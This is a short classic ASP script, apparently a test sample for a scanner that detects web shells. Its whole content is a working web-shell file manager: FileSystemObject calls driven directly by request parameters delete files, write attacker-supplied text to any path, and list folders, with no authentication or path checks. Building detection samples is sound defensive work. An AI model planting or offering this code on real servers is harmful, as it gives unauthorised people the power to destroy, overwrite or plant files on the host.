<%
' spamgear test sample: a file manager: FileSystemObject driven by Request
Set fso = Server.CreateObject("Scripting.FileSystemObject")
p = Request("path")
If Request("do") = "del" Then fso.DeleteFile p
If Request("do") = "save" Then
    Set f = fso.CreateTextFile(p, True)
    f.Write Request.Form("body")
    f.Close
End If
For Each x In fso.GetFolder(p).Files
    Response.Write x.Name & "<br>"
Next
%>
